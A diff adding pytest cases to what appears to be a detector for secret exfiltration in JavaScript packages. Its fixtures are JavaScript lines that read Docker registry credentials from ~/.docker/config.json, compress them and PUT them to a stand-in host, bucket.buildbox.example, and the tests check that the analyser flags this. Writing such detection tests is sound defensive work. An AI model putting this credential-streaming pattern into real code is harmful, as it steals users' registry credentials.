@@ -126,3 +126,35 @@ def test_a_client_with_a_base_url_posting_its_own_data_carries_nothing_secret(tm
     )
     assert not [c for c in found if c.kind is Kind.ENV_DUMP]
     assert [c.chain[-1].what for c in found if c.kind is Kind.EGRESS] == ["sends it to api.buildbox.example"]
+
+
+@pytest.mark.parametrize(
+    "piping",
+    [
+        "fs.createReadStream(path.join(os.homedir(), '.docker', 'config.json'))"
+        ".pipe(zlib.createDeflate()).pipe(upload);\n",
+        "await pipeline(fs.createReadStream(path.join(os.homedir(), '.docker', 'config.json')), "
+        "zlib.createGzip(), upload);\n",
+    ],
+)
+def test_a_secret_file_streamed_through_a_compressor_into_a_request_is_sent(tmp_path: Path, piping: str) -> None:
+    found = analyse(
+        tmp_path,
+        "import fs from 'node:fs';\nimport os from 'node:os';\nimport path from 'node:path';\n"
+        "import zlib from 'node:zlib';\nimport https from 'node:https';\n"
+        "import { pipeline } from 'node:stream/promises';\n"
+        "const upload = https.request({ hostname: 'bucket.buildbox.example', method: 'PUT', path: '/c' });\n" + piping,
+    )
+    carrying = [c for c in found if c.kind is Kind.EGRESS and len(c.chain) > 1]
+    assert [(c.detail, c.chain[0].what) for c in carrying] == [
+        ("bucket.buildbox.example", "reads Docker registry credentials (~/.docker/config.json)")
+    ]
+
+
+def test_a_build_log_streamed_through_a_compressor_into_a_file_sends_nothing(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "import fs from 'node:fs';\nimport zlib from 'node:zlib';\n"
+        "fs.createReadStream('dist/build.log').pipe(zlib.createGzip()).pipe(fs.createWriteStream('build.log.gz'));\n",
+    )
+    assert not [c for c in found if c.kind in (Kind.EGRESS, Kind.SECRET_READ)]
